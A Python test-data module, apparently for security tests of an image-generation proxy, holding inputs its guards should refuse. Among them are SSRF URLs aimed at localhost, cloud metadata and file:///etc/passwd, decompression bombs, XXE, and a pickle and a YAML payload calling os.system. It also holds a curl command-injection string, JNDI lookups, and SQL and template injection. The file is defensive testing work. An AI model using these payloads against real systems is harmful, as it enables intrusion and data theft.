"""What strangers send: URLs and contents in an upstream's answer, and requests of clients. Data alone.

`{canary}` is a server on this machine that nothing may reach, `{upstream}` the upstream's own address, both as host and
port; `{canary_port}`, `{upstream_port}`, `{gateway}` and `{aws}` likewise. No row names an address off this machine:
those are judged in tests/unit/test_url_guard.py, where nothing connects.
"""

import gzip
import json
import struct
import zlib
from base64 import b64encode
from dataclasses import dataclass
from typing import Any

SECRET = "s3cr3t-of-a-signed-url"  # stands in every URL, and may come out nowhere
PAGE = f"/1.png?sig={SECRET}"

# ------------------------------------------------------------------ URLs that may not be fetched

_HOSTS = {
    "an address": "127.0.0.1",
    "a dot behind": "127.0.0.1.",
    "decimal": "2130706433",
    "octal": "0177.0.0.1",
    "hex": "0x7f.1",
    "two parts": "127.1",
    "this host": "0.0.0.0",
    "this host in short": "0",
    "a name": "localhost",
    "a name in capitals": "LOCALHOST",
    "a name with a dot behind": "localhost.",
    "IPv6": "[::1]",
    "IPv6 unspecified": "[::]",
    "mapped": "[::ffff:127.0.0.1]",
    "mapped in hex": "[::ffff:7f00:1]",
    "compatible": "[::127.0.0.1]",
    "with a zone": "[::1%25lo]",
    "brackets around IPv4": "[127.0.0.1]",
    "full-width digits": "\uff11\uff12\uff17.\uff10.\uff10.\uff11",
    "ideographic full stops": "127\u30020\u30020\u30021",
    "a full-width name": "\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54",
    "a soft hyphen": "local\u00adhost",
    "a zero-width space": "local\u200bhost",
    "escaped": "%31%32%37%2e%30%2e%30%2e%31",
    "an escaped null": "127.0.0.1%00.invalid",
    "an escaped port": "127.0.0.1%3a{canary_port}",
    "a null": "127.0.0.1\0.invalid",
    "a tab": "127.0.\t0.1",
    "a line feed": "127.0.0.1\n",
}

# Those that the system's resolver finds an address for by itself.
_RESOLVED = [
    *("an address", "decimal", "octal", "hex"),
    *("two parts", "this host", "this host in short", "a name", "a name in capitals"),
    *("IPv6", "IPv6 unspecified", "mapped", "mapped in hex", "compatible"),
]

REFUSED_URLS = {
    **{
        f"http to {name}": f"http://{host}:{{canary_port}}{PAGE}"
        for name, host in _HOSTS.items()
        if name in ("an address", "decimal", "a name", "mapped in hex") or name not in _RESOLVED
    },
    # The default port: the host alone is what these are refused for.
    **{f"https to {name}": f"https://{_HOSTS[name]}{PAGE}" for name in _RESOLVED},
    "https to the canary": f"https://{{canary}}{PAGE}",
    "https to the canary by name": f"https://localhost:{{canary_port}}{PAGE}",
    # ports
    "the port of https by number": f"https://127.0.0.1:443{PAGE}",
    "the port of ssh": f"https://127.0.0.1:22{PAGE}",
    "a port beyond all": f"https://127.0.0.1:65536{PAGE}",
    "a port that is no number": f"https://127.0.0.1:https{PAGE}",
    "two ports": f"http://{{upstream}}:{{canary_port}}{PAGE}",
    "a port in full-width digits": f"http://127.0.0.1:\uff18\uff10{PAGE}",
    # what only looks like the upstream
    "the upstream under https": f"https://{{upstream}}{PAGE}",
    "the upstream's port by another name": f"http://localhost:{{upstream_port}}{PAGE}",
    "the upstream's port mapped": f"http://[::ffff:127.0.0.1]:{{upstream_port}}{PAGE}",
    "the upstream's port in decimal": f"http://2130706433:{{upstream_port}}{PAGE}",
    "the upstream as a user": f"http://{{upstream}}@{{canary}}{PAGE}",
    "the upstream as a user and a password": f"http://127.0.0.1:{SECRET}@{{canary}}{PAGE}",
    "the upstream as an escaped user": f"http://{{upstream}}%40{{canary}}{PAGE}",
    "the upstream behind a semicolon": f"http://{{upstream}};@{{canary}}{PAGE}",
    "the upstream in the fragment": f"http://{{canary}}#@{{upstream}}{PAGE}",
    "the upstream in the query": f"http://{{canary}}?@{{upstream}}{PAGE}",
    "the upstream ahead of a backslash": f"http://{{upstream}}\\@{{canary}}{PAGE}",
    "the upstream behind a backslash": f"http://{{canary}}\\@{{upstream}}{PAGE}",
    "credentials for the upstream": f"http://user:{SECRET}@{{upstream}}{PAGE}",
    "an empty user for the upstream": f"http://@{{upstream}}{PAGE}",
    "a line behind the upstream": f"http://{{upstream}}/\r\nHost: {{canary}}\r\n\r\n{PAGE}",
    # other services of this machine
    "our own gateway": f"http://{{gateway}}/v1/models{PAGE}",
    "our own AWS": f"http://{{aws}}/latest/meta-data/{SECRET}",
    # slashes
    "backslashes": f"http:\\\\{{canary}}\\{SECRET}",
    "three slashes": f"http:///{{canary}}{PAGE}",
    "one slash": f"http:/{{canary}}{PAGE}",
    "no slash": f"http:{{canary}}{PAGE}",
    "no scheme": f"//{{canary}}{PAGE}",
    "a name for a scheme": f"localhost:{{canary_port}}{PAGE}",
    # white space
    "a space ahead": f" http://{{canary}}{PAGE}",
    "a space behind": f"http://{{canary}}{PAGE} ",
    "a tab in the scheme": f"ht\ttp://{{canary}}{PAGE}",
    # schemes
    "ftp": f"ftp://{{canary}}{PAGE}",
    "a file": f"file:///etc/passwd?{SECRET}",
    "a file in short": f"file:/proc/self/environ?{SECRET}",
    "gopher": f"gopher://{{canary}}/_GET%20{SECRET}",
    "a websocket": f"ws://{{canary}}{PAGE}",
    "javascript": f"javascript:fetch('http://{{canary}}/{SECRET}')",
    "a socket file": f"http+unix://%2Fvar%2Frun%2Fdocker.sock/{SECRET}",
    "a scheme in capitals": f"HTTP://{{canary}}{PAGE}",
    # lengths
    "a very long path": f"http://{{canary}}/{'a' * 6_000}{SECRET}",
    "a very long query": f"http://{{canary}}/?{'a=1&' * 1_500}{SECRET}",
    "a label too long": f"https://{'a' * 64}.invalid{PAGE}",
    "a very long host": f"https://{'a' * 6_000}.invalid{PAGE}",
    # hardly a URL
    "a space": " ",
    "a scheme alone": "http:",
    "an open bracket": f"http://[{{canary}}{PAGE}",
    "no host": f"https:///{SECRET}",
    "a non-ASCII path": f"http://{{canary}}/\u00e9{SECRET}",
}

# ------------------------------------------------- URLs that may be tried, and give nothing

VAIN_URLS = {
    "the canary in the fragment": f"http://{{upstream}}/#@{{canary}}{PAGE}",
    "the canary in the path": f"http://{{upstream}}//{{canary}}{PAGE}",
    "the canary's URL in the path": f"http://{{upstream}}/http://{{canary}}{PAGE}",
    "the canary in the query": f"http://{{upstream}}/?url=http://{{canary}}{PAGE}",
    "dots in the path": f"http://{{upstream}}/files/../..//{{canary}}{PAGE}",
    "an escaped line in the path": f"http://{{upstream}}/files/%0d%0aHost:%20{{canary}}%0d%0a{SECRET}",
    "the paid endpoint itself": f"http://{{upstream}}/v1/images/generations?{SECRET}",
    "the upstream and a very long path": f"http://{{upstream}}/files/{'a' * 6_000}{SECRET}",
}
UNKNOWN_HOSTS = {
    "a name that nobody has": f"https://image-host.invalid{PAGE}",
    "a name that looks like the canary": f"https://127.0.0.1.invalid{PAGE}",
}

# --------------------------------------------------------- answers that name no URL at all


def _answer(**image: Any) -> bytes:
    return json.dumps({"created": 1, "data": [image]}).encode()


def _url(text: bytes) -> bytes:
    return b'{"created":1,"data":[{"url":"%s"}]}' % text


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(1)</script></html>"

# The answer, and the code that tells what is wrong with it.
ANSWERS: dict[str, tuple[bytes, str]] = {
    "a missing URL": (_answer(), "upstream_answer_invalid"),
    "a null URL": (_answer(url=None), "upstream_answer_invalid"),
    "an empty URL": (_answer(url=""), "upstream_answer_invalid"),
    "a URL that is a number": (_answer(url=7), "upstream_answer_invalid"),
    "a URL in a list": (_answer(url=["http://{canary}/"]), "image_url_refused"),
    "a URL that is an object": (_answer(url={"href": "http://{canary}/"}), "upstream_answer_invalid"),
    "a URL that is no UTF-8": (_url(b"http://{canary}/\xff\xfe"), "upstream_answer_invalid"),
    "a URL with half a surrogate pair": (_url(b"http://{canary}/\\ud800"), "image_url_refused"),
    "a URL with a raw null": (_url(b"http://{canary}/\0"), "upstream_answer_invalid"),
    "a URL that does not end": (b'{"created":1,"data":[{"url":"http://{canary}/', "upstream_answer_invalid"),
    "an image that is a URL": (b'{"data":["http://{canary}/"]}', "upstream_answer_invalid"),
    "data that is a URL": (b'{"data":"http://{canary}/"}', "upstream_answer_invalid"),
    "no image": (b'{"data":[]}', "upstream_too_few_images"),
    "a deep image": (b'{"data":[{"url":' + b"[" * 100_000, "upstream_answer_invalid"),
    "SVG as base64": (_answer(b64_json=b64encode(SVG).decode()), "not_an_image"),
    "HTML as base64": (_answer(b64_json=b64encode(HTML).decode()), "not_an_image"),
    "what is not base64": (_answer(b64_json="%%%"), "upstream_answer_invalid"),
    "a data URL of SVG": (_answer(url=f"data:image/svg+xml;base64,{b64encode(SVG).decode()}"), "not_an_image"),
    "a data URL of HTML": (_answer(url=f"DATA:text/html;base64,{b64encode(HTML).decode()}"), "not_an_image"),
    "a data URL of text": (_answer(url="data:,<svg onload=alert(1)>"), "upstream_answer_invalid"),
    "an empty data URL": (_answer(url="data:"), "upstream_answer_invalid"),
}

# ------------------------------------- redirects, answered from the upstream's own origin

# The location, and the code that tells what came of it. `{itself}` is the URL that redirects.
REDIRECTS: dict[str, tuple[str, str]] = {
    **{
        f"to {name}": (REFUSED_URLS[f"http to {name}"], "image_url_refused")
        for name in ("an address", "a name", "decimal")
    },
    **{
        f"to https at {name}": (REFUSED_URLS[f"https to {name}"], "image_url_refused")
        for name in ("an address", "hex", "a name", "IPv6", "mapped in hex")
    },
    "to the canary under https": (f"https://{{canary}}{PAGE}", "image_url_refused"),
    "to the canary without a scheme": (f"//{{canary}}{PAGE}", "image_url_refused"),
    "to the canary behind backslashes": (f"\\\\{{canary}}{PAGE}", "image_url_refused"),
    "to the canary behind a slash and a backslash": (f"/\\{{canary}}{PAGE}", "image_url_refused"),
    "to the canary past the upstream": (f"http://{{upstream}}@{{canary}}{PAGE}", "image_url_refused"),
    "to the canary past a backslash": (f"http://{{upstream}}\\@{{canary}}{PAGE}", "image_url_refused"),
    "to the canary with a tab": (f"http://127.0.0\t.1:{{canary_port}}{PAGE}", "image_url_refused"),
    "to the upstream by another name": (f"http://localhost:{{upstream_port}}{PAGE}", "image_url_refused"),
    "to our own AWS": (f"http://{{aws}}/{SECRET}", "image_url_refused"),
    "to a file": (f"file:///etc/passwd?{SECRET}", "image_url_refused"),
    "to javascript": (f"javascript:alert('{SECRET}')", "image_url_refused"),
    "to data": ("data:image/png;base64,iVBORw0KGgo=", "image_url_refused"),
    "to an open bracket": ("http://[::1", "image_download_failed"),
    "to a port that is none": ("http://127.0.0.1:99999/", "image_url_refused"),
    "to nowhere": ("", "image_download_failed"),
    "to a path of the upstream that looks like the canary": (f"http:{{canary}}{PAGE}", "image_download_failed"),
    "to where it came from": ("{itself}", "image_download_failed"),
}

# ----------------------------------------------- contents, from the upstream's own origin

MAX_IMAGE_BYTES = 1_000_000  # in this file's stack
PNG_HEAD, PNG_END = b"\x89PNG\r\n\x1a\n", b"\0\0\0\0IEND\xaeB`\x82"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


REAL_PNG = (
    PNG_HEAD
    + _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    + _chunk(b"IDAT", zlib.compress(b"\0\xff\0\0"))
    + _chunk(b"IEND", b"")
)


@dataclass(frozen=True)
class Content:
    """A whole HTTP answer, the code that tells what is wrong with it, and how often it is asked for."""

    answer: bytes
    code: str
    downloads: int = 1


def _told(content: bytes, kind: str = "image/png", *headers: str, status: str = "200 OK") -> bytes:
    lines = [f"HTTP/1.1 {status}", f"Content-Type: {kind}", f"Content-Length: {len(content)}", *headers]
    return "\r\n".join([*lines, "", ""]).encode() + content


def _without_length(content: bytes, *headers: str) -> bytes:
    return "\r\n".join(["HTTP/1.1 200 OK", "Content-Type: image/png", *headers, "", ""]).encode() + content


GZIPPED = "Content-Encoding: gzip"
BOMB = gzip.compress(PNG_HEAD + bytes(100_000_000))  # a tenth of a megabyte
NO_IMAGE, TRUNCATED, FAILED = "not_an_image", "image_truncated", "image_download_failed"

CONTENTS = {
    "SVG": Content(_told(SVG, "image/svg+xml"), NO_IMAGE),
    "SVG told as PNG": Content(_told(SVG), NO_IMAGE),
    "SVG compressed": Content(_told(gzip.compress(SVG), "image/svg+xml", GZIPPED), NO_IMAGE),
    "SVG compressed as a file": Content(_told(gzip.compress(SVG), "image/svg+xml"), NO_IMAGE),
    "HTML": Content(_told(HTML, "text/html"), NO_IMAGE),
    "HTML told as PNG": Content(_told(HTML), NO_IMAGE),
    "HTML with a PNG behind it": Content(_told(HTML + REAL_PNG), NO_IMAGE),
    "HTML that redirects": Content(
        _told(b'<meta http-equiv="refresh" content="0;url=http://{canary}/">', "text/html"), NO_IMAGE
    ),
    "XML with an entity": Content(
        _told(b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{canary}/">]><x>&e;</x>', "image/svg+xml"), NO_IMAGE
    ),
    "PDF": Content(_told(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "application/pdf"), NO_IMAGE),
    "nothing": Content(_told(b""), NO_IMAGE),
    "one byte": Content(_told(b"\x89"), NO_IMAGE),
    "the head of a PNG alone": Content(_told(PNG_HEAD), TRUNCATED, 4),
    "the head of a PNG and garbage": Content(_told(PNG_HEAD + b"garbage" * 700), TRUNCATED, 4),
    "a PNG that lacks its end": Content(_told(REAL_PNG[:-6]), TRUNCATED, 4),
    "the head of a JPEG and HTML": Content(_told(b"\xff\xd8\xff\xe0" + HTML), TRUNCATED, 4),
    "the head of a GIF and a script": Content(_told(b"GIF89a=0;alert(1)//", "text/javascript"), TRUNCATED, 4),
    "the head of a WebP that tells more": Content(_told(b"RIFF\xff\xff\xff\x7fWEBPVP8 "), TRUNCATED, 4),
    "a PNG shorter than it is told": Content(_told(REAL_PNG).replace(b"Length: ", b"Length: 9"), FAILED, 4),
    "a PNG longer than it is told": Content(
        _told(REAL_PNG).replace(b"Length: %d" % len(REAL_PNG), b"Length: 20"), TRUNCATED, 4
    ),
    "a PNG too large": Content(_told(REAL_PNG[:-12] + bytes(MAX_IMAGE_BYTES) + PNG_END), "image_too_large"),
    "a PNG told to be too large": Content(_told(REAL_PNG).replace(b"Length: ", b"Length: 9999999"), "image_too_large"),
    "a PNG too large, without a length": Content(
        _without_length(PNG_HEAD + bytes(MAX_IMAGE_BYTES) + PNG_END), "image_too_large"
    ),
    "a chunk larger than all": Content(
        _without_length(b"ffffffffffffffff\r\n" + PNG_HEAD, "Transfer-Encoding: chunked"), FAILED, 4
    ),
    "a bomb": Content(_told(BOMB, "image/png", GZIPPED), "image_too_large"),
    "a bomb without a length": Content(_without_length(BOMB, GZIPPED), "image_too_large"),
    "a bomb in a bomb": Content(
        _told(gzip.compress(BOMB), "image/png", "Content-Encoding: gzip, gzip"), "image_too_large"
    ),
    "what only claims to be compressed": Content(_told(REAL_PNG, "image/png", GZIPPED), FAILED, 4),
    "a compression that nobody knows": Content(
        _told(zlib.compress(REAL_PNG), "image/png", "Content-Encoding: x-unknown"), NO_IMAGE
    ),
    "half of a compressed PNG": Content(_told(gzip.compress(REAL_PNG)[:40], "image/png", GZIPPED), TRUNCATED, 4),
    "no HTTP": Content(b"SSH-2.0-OpenSSH_9.6\r\n", FAILED, 4),
    "heads without end": Content(b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 100_000 + b"\r\n", FAILED, 4),
    "a part": Content(_told(REAL_PNG, status="206 Partial Content"), FAILED),
    "a refusal that asks for a password": Content(
        _told(b"", "text/html", 'WWW-Authenticate: Basic realm="x"', status="401 Unauthorized"), FAILED
    ),
    "a choice that names the canary": Content(
        _told(b"", "text/html", "Location: http://{canary}/", status="300 Multiple Choices"), FAILED
    ),
    "a refusal that names the canary": Content(
        _told(b"", "text/html", "Location: http://{canary}/", status="404 Not Found"), FAILED, 4
    ),
}

# ------------------------------------------------------------ requests: bodies

GOOD = {"prompt": "an otter"}
GOOD_BODY = json.dumps(GOOD).encode()
_JSON_ERROR = (400, None)

# The body, the status of its refusal and the field that it names.
BODIES: dict[str, tuple[bytes, int, str | None]] = {
    "nothing": (b"", *_JSON_ERROR),
    "null": (b"null", *_JSON_ERROR),
    "true": (b"true", *_JSON_ERROR),
    "a number": (b"1", *_JSON_ERROR),
    "a text": (b'"an otter"', *_JSON_ERROR),
    "a list": (b"[]", *_JSON_ERROR),
    "a list of requests": (b"[" + GOOD_BODY + b"]", *_JSON_ERROR),
    "white space": (b" \t\r\n" * 25_000, *_JSON_ERROR),
    "an open brace": (b"{", *_JSON_ERROR),
    "half a request": (GOOD_BODY[:-3], *_JSON_ERROR),
    "two requests": (GOOD_BODY * 2, *_JSON_ERROR),
    "two requests on two lines": (GOOD_BODY + b"\n" + GOOD_BODY, *_JSON_ERROR),
    "a comma too many": (b'{"prompt":"x",}', *_JSON_ERROR),
    "a comment": (b'{"prompt":"x"/**/}', *_JSON_ERROR),
    "single quotes": (b"{'prompt':'x'}", *_JSON_ERROR),
    "a key without quotes": (b"{prompt:1}", *_JSON_ERROR),
    "YAML": (b"prompt: !!python/object/apply:os.system [id]", *_JSON_ERROR),
    "XML with an entity": (b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{canary}/">]><x>&e;</x>', *_JSON_ERROR),
    "a pickle": (b"\x80\x04cos\nsystem\n(S'id'\ntR.", *_JSON_ERROR),
    "a form": (b"prompt=an+otter", *_JSON_ERROR),
    "compressed": (gzip.compress(GOOD_BODY), *_JSON_ERROR),
    "a raw null": (b'{"prompt":"a\0b"}', *_JSON_ERROR),
    "a raw line feed in a text": (b'{"prompt":"a\nb"}', *_JSON_ERROR),
    "two byte order marks": (b"\xef\xbb\xbf" * 2 + GOOD_BODY, *_JSON_ERROR),
    "UTF-16": (GOOD_BODY.decode().encode("utf-16"), *_JSON_ERROR),
    "UTF-16 without a mark": (GOOD_BODY.decode().encode("utf-16-le"), *_JSON_ERROR),
    "UTF-32": (GOOD_BODY.decode().encode("utf-32"), *_JSON_ERROR),
    "no UTF-8": (b"\xff\xfe\xfd", *_JSON_ERROR),
    "no UTF-8 around a request": (b"\xff" + GOOD_BODY + b"\xff", *_JSON_ERROR),
    "half a surrogate pair and no end": (b'{"prompt":"\\ud800', *_JSON_ERROR),
    "half a surrogate pair as a name": (b'{"prompt":"x","\\udc00":1}', 400, "\ufffd"),
    "an escape that is none": (b'{"prompt":"\\x41"}', *_JSON_ERROR),
    "a number that is none": (b'{"prompt":"x","n":NaN}', *_JSON_ERROR),
    "infinity": (b'{"prompt":"x","n":Infinity}', *_JSON_ERROR),
    "minus infinity": (b'{"prompt":"x","n":-Infinity}', *_JSON_ERROR),
    "a hex number": (b'{"prompt":"x","n":0x1}', *_JSON_ERROR),
    "an octal number": (b'{"prompt":"x","n":01}', *_JSON_ERROR),
    "a signed number": (b'{"prompt":"x","n":+1}', *_JSON_ERROR),
    "a number beyond all": (b'{"prompt":"x","n":1e400}', *_JSON_ERROR),
    "one, as a decimal": (b'{"prompt":"x","n":1.0}', 400, "n"),
    "one, with an exponent": (b'{"prompt":"x","n":1e0}', 400, "n"),
    "minus zero": (b'{"prompt":"x","n":-0}', 400, "n"),
    "minus zero, as a decimal": (b'{"prompt":"x","n":-0.0}', 400, "n"),
    "a number of five thousand digits": (b'{"prompt":"x","n":' + b"9" * 5_000 + b"}", *_JSON_ERROR),
    "a key twice": (b'{"prompt":"x","n":1,"n":11}', 400, "n"),
    "a key twice, once escaped": (b'{"prompt":"x","n":1,"\\u006e":11}', 400, "n"),
    "deep lists": (b"[" * 100_000, *_JSON_ERROR),
    "deep lists that end": (b"[" * 100_000 + b"]" * 100_000, *_JSON_ERROR),
    "deep objects": (b'{"a":' * 80_000, *_JSON_ERROR),
    "a deep prompt": (b'{"prompt":' + b"[" * 200 + b"]" * 200 + b"}", 400, "prompt"),
    "a deep unknown field": (b'{"prompt":"x","metadata":' + b'{"a":' * 200 + b"1" + b"}" * 201, 400, "metadata"),
    "ten thousand unknown fields": (
        json.dumps({**GOOD, **{f"field_{number}": number for number in range(10_000)}}).encode(),
        400,
        "field_0",
    ),
    "a prompt of half a megabyte": (json.dumps({"prompt": "a" * 500_000}).encode(), 400, "prompt"),
    "a prompt of a megabyte": (json.dumps({"prompt": "a" * 1_000_000}).encode(), 413, None),
    "600 KB": (b"a" * 600_000, 413, None),
    "over the function's limit": (b"a" * 7_000_000, 424, None),
    "over the gateway's limit": (b"a" * 11_000_000, 413, None),
    # A record of DynamoDB holds 400 KB, and our limit for a body is 512 KiB.
    "a user larger than a record": (json.dumps({**GOOD, "user": "u" * 450_000}).encode(), 400, "user"),
}

# ------------------------------------------------------------- requests: types

_BOUNDARY = b'--b\r\nContent-Disposition: form-data; name="prompt"\r\n\r\nan otter\r\n--b--\r\n'

# The content type, None for none, and the body.
TYPES: dict[str, tuple[str | None, bytes]] = {
    "none": (None, GOOD_BODY),
    "empty": ("", GOOD_BODY),
    "text": ("text/plain", GOOD_BODY),
    "text that is JSON": ("text/json", GOOD_BODY),
    "any": ("*/*", GOOD_BODY),
    "a form": ("application/x-www-form-urlencoded", b"prompt=an+otter"),
    "several parts": ("multipart/form-data; boundary=b", _BOUNDARY),
    "several parts told by half": ("multipart/form-data", _BOUNDARY),
    "XML": ("application/xml", b"<prompt>an otter</prompt>"),
    "bytes": ("application/octet-stream", GOOD_BODY),
    "a patch": ("application/json-patch+json", GOOD_BODY),
    "JSON lines": ("application/jsonl", GOOD_BODY),
    "two": ("application/json, text/plain", GOOD_BODY),
    "a space inside": ("application / json", GOOD_BODY),
    "a list of parameters alone": (";charset=utf-8", GOOD_BODY),
    "very long": (f"application/json{'x' * 8_000}", GOOD_BODY),
    "full-width": ("\uff41pplication/json".encode().decode("latin-1"), GOOD_BODY),
}

# ------------------------------------------------------------ requests: fields

_MODELS = {
    "a path": "../../etc/passwd",
    "an escaped path": "..%2f..%2fetc%2fpasswd",
    "a line behind": "dall-e-3\r\nX-Injected: 1",
    "a null behind": "dall-e-3\0",
    "a space ahead": " dall-e-3",
    "capitals": "DALL-E-3",
    "a zero-width space": "dall-e-3\u200b",
    "a Cyrillic letter": "d\u0430ll-e-3",
    "nothing": "",
    "SQL": "' OR '1'='1' --",
    "a format": "%s%n%x{0}",
    "a template": "{{7*7}}${7*7}#{7*7}<%=7*7%>",
    "a look-up": "${jndi:ldap://{canary}/a}",
    "a command": "$(curl http://{canary}/)`id`|id;id",
    "markup": "<script>alert(1)</script>",
    "a prototype": "__proto__",
    "a method": "constructor",
    "a URL": "http://{canary}/v1",
    "very long": "a" * 10_000,
    "a wildcard": "*",
    "another kind of model": "gpt-4o",
}
_SIZES = {
    "zero": "0x0",
    "a capital": "1024X1024",
    "a sign of multiplication": "1024\u00d71024",
    "full-width digits": "\uff11\uff10\uff12\uff14x1024",
    "Arabic digits": "\u0661\u0660\u0662\u0664x\u0661\u0660\u0662\u0664",
    "a space behind": "1024x1024 ",
    "a line behind": "1024x1024\n",
    "a sign": "+1024x1024",
    "negative": "-1024x-1024",
    "hex": "0x400x0x400",
    "exponents": "1e3x1e3",
    "beyond all": f"{'9' * 40}x{'9' * 40}",
    "three sides": "1024x1024x1024",
    "one side": "1024",
    "nothing": "",
    "SQL": "1024x1024'; DROP TABLE images",
    "automatic": "auto",
}
_BLANKS = "\t\n\v\f\r \x1c\x1d\x1e\x1f\x85\xa0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a"
BLANKS = _BLANKS + "\u2028\u2029\u202f\u205f\u3000"
_UNKNOWN = [
    *("__proto__", "constructor", "prototype", "__class__", "toString", "$where", "$ref", "@type"),
    *("api_key", "webhook", "callback_url", "base_url", "url", "image", "mask", "extra_body", "tools", "seed"),
    *(
        "N",
        "Prompt",
        "prompt ",
        "\ufeffprompt",
        "prompt\0",
        "response_format[]",
        "size\u200b",
        "",
        "\U0001f9a6",
        "\u202eezis",
    ),
    *("background", "moderation", "output_format", "stream", "partial_images"),  # of another model
]
_GPT = {"model": "gpt-image-1"}

# Fields beside a good prompt, and the one that the refusal names.
FIELDS: dict[str, tuple[dict[str, Any], str]] = {
    **{
        f"n that is {name}": ({"n": value}, "n")
        for name, value in {
            "true": True,
            "false": False,
            "a text": "1",
            "an empty text": "",
            "a list": [1],
            "an object": {"$gt": 0},
            "zero": 0,
            "negative": -1,
            "one too many": 11,
            "one and a half": 1.5,
            "as large as a long": 2**63 - 1,
            "larger than a long": 2**63,
            "larger than an unsigned long": 2**64,
            "as small as a long": -(2**63),
            "larger than all": 10**400,
        }.items()
    },
    **{f"a size of {name}": ({"size": value}, "size") for name, value in _SIZES.items()},
    "a size that is a number": ({"size": 1024}, "size"),
    "a size that is a list": ({"size": ["1024x1024"]}, "size"),
    "a size that is an object": ({"size": {"width": 1024}}, "size"),
    **{
        f"a free size of {name}": ({"model": "gpt-image-2", "size": value}, "size")
        for name, value in _SIZES.items()
        if name != "automatic"
    },
    **{f"a model of {name}": ({"model": value}, "model") for name, value in _MODELS.items()},
    "a model that is a number": ({"model": 3}, "model"),
    "a model that is a list": ({"model": ["dall-e-3"]}, "model"),
    "a model that is an object": ({"model": {"$ne": ""}}, "model"),
    "a prompt that is a number": ({"prompt": 7}, "prompt"),
    "a prompt that is true": ({"prompt": True}, "prompt"),
    "a prompt that is null": ({"prompt": None}, "prompt"),
    "a prompt that is a list": ({"prompt": ["an", "otter"]}, "prompt"),
    "a prompt that is an object": ({"prompt": {"text": "an otter"}}, "prompt"),
    "a prompt that is empty": ({"prompt": ""}, "prompt"),
    "a prompt one too long": ({"prompt": "a" * 1001}, "prompt"),
    "a prompt one too long in otters": ({"prompt": "\U0001f9a6" * 1001}, "prompt"),
    "a prompt of all blanks": ({"prompt": BLANKS}, "prompt"),
    **{f"a prompt of U+{ord(blank):04X}": ({"prompt": blank * 3}, "prompt") for blank in BLANKS},
    "a quality in capitals": ({"quality": "HD"}, "quality"),
    "a quality of another model": ({"quality": "high"}, "quality"),
    "a quality that is a list": ({"quality": ["hd"]}, "quality"),
    "a style of its own": ({"style": "noir"}, "style"),
    "a style with a line behind": ({"style": "vivid\n"}, "style"),
    "a response format in capitals": ({"response_format": "URL"}, "response_format"),
    "a response format that is an object": ({"response_format": {"type": "url"}}, "response_format"),
    "a response format of a file": ({"response_format": "file:///etc/passwd"}, "response_format"),
    "a user that is a number": ({"user": 7}, "user"),
    "a user that is an object": ({"user": {"id": 7}}, "user"),
    "a stream": ({**_GPT, "stream": True}, "stream"),
    "a stream that is a text": ({**_GPT, "stream": "true"}, "stream"),
    "partial images": ({**_GPT, "partial_images": 1}, "partial_images"),
    "an output format of SVG": ({**_GPT, "output_format": "svg"}, "output_format"),
    "an output format of HTML": ({**_GPT, "output_format": "html"}, "output_format"),
    "an output format of a path": ({**_GPT, "output_format": "../png"}, "output_format"),
    "a transparent JPEG": ({**_GPT, "background": "transparent", "output_format": "jpeg"}, "background"),
    "a compression over all": ({**_GPT, "output_compression": 101}, "output_compression"),
    "a compression below all": ({**_GPT, "output_compression": -1}, "output_compression"),
    "a compression that is a text": ({**_GPT, "output_compression": "50"}, "output_compression"),
    "a compression of PNG": ({**_GPT, "output_compression": 50, "output_format": "png"}, "output_compression"),
    "no moderation": ({**_GPT, "moderation": "off"}, "moderation"),
    **{f"unknown {name!a}": ({name: "http://{canary}/"}, name) for name in _UNKNOWN},
}

# ----------------------------------------------------- requests: keys and headers

_BAD_SECRET = "A" * 43

# Each is all the `Authorization` headers of a request. `{key}` is a good key of the client `local`, `{secret}` its end.
KEYS: dict[str, list[str]] = {
    "none": [],
    "empty": [""],
    "a blank": [" "],
    "a scheme alone": ["Bearer"],
    "a scheme and a blank": ["Bearer "],
    "a key alone": ["{key}"],
    "Basic": ["Basic dXNlcjpwYXNzd29yZA=="],
    "the key under Basic": ["Basic {key}"],
    "the key under Token": ["Token {key}"],
    "Digest": ['Digest username="local", response="{key}"'],
    "the key in quotes": ['Bearer "{key}"'],
    "a tab": ["Bearer\t{key}"],
    "something behind": ["Bearer {key} x"],
    "a comma behind": ["Bearer {key},"],
    "two in one": ["Bearer ig_local_wrong, Bearer {key}"],
    "a bad one ahead of a good one": [f"Bearer ig_local_{_BAD_SECRET}", "Bearer {key}"],
    "no key ahead of a good one": ["", "Bearer {key}"],
    "a wrong secret": [f"Bearer ig_local_{_BAD_SECRET}"],
    "another client's secret": ["Bearer ig_other_{secret}"],
    "a secret cut off": ["Bearer {key_cut_off}"],
    "a secret with more": ["Bearer {key}A"],
    "a secret in capitals": ["Bearer {key_in_capitals}"],
    "a client in capitals": ["Bearer ig_LOCAL_{secret}"],
    "an unknown client": [f"Bearer ig_nobody_{_BAD_SECRET}"],
    "a key of another stack": [f"Bearer ig_web_{'Zk3-_' * 8}abc"],
    "a client that is a path": [f"Bearer ig_../clients/local_{_BAD_SECRET}"],
    "a client that leads up": ["Bearer ig_.._{secret}"],
    "a client that is a wildcard": ["Bearer ig_*_{secret}"],
    "a client with a slash": ["Bearer ig_local/_{secret}"],
    "a client with a colon": ["Bearer ig_local:1_{secret}"],
    "a client of an issuer": [f"Bearer ig_oidc:{'0' * 32}_{_BAD_SECRET}"],
    "a client of hyphens": ["Bearer ig_---_{secret}"],
    "a client too long": [f"Bearer ig_{'a' * 33}_{_BAD_SECRET}"],
    "no client": ["Bearer ig__{secret}"],
    "the upstream's own parameter": ["Bearer ig_upstream-api-key_{secret}"],
    "the upstream's own key": ["Bearer {upstream_key}"],
    "an escaped key": ["Bearer ig%5flocal%5f{secret}"],
    "a null inside": ["Bearer ig_local_\0{secret}"],
    "a folded line": ["Bearer\r\n {key}"],
    "a folded line behind": ["Bearer {key}\r\n x"],
    "letters of Latin-1": ["Bearer ig_l\u00f6cal_{secret}"],
